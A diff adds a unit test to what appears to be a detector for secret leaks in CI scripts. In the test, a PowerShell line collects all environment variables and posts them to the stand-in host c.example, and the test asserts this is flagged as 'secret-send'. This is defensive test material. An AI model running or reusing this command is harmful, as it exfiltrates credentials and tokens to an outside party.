@@ -205,3 +205,10 @@ def test_windows_installs_by_name(script: str, installed: list[str]) -> None:
 def test_a_secret_that_is_masked_is_not_shown() -> None:
     assert details("secret-print", 'echo "##vso[task.setsecret]$TOKEN"') == []
     assert details("secret-print", 'echo "##vso[task.logissue type=warning]$TOKEN"') == ["TOKEN"]
+
+
+def test_a_listing_that_is_kept_in_a_variable_is_printed_nowhere() -> None:
+    script = "$all = Get-ChildItem env: | Out-String\nInvoke-WebRequest -Uri https://c.example -Method POST -Body $all"
+    kinds = {effect.kind for effect in effects(script, "pwsh")}
+    assert "environment-dump" not in kinds
+    assert "secret-send" in kinds
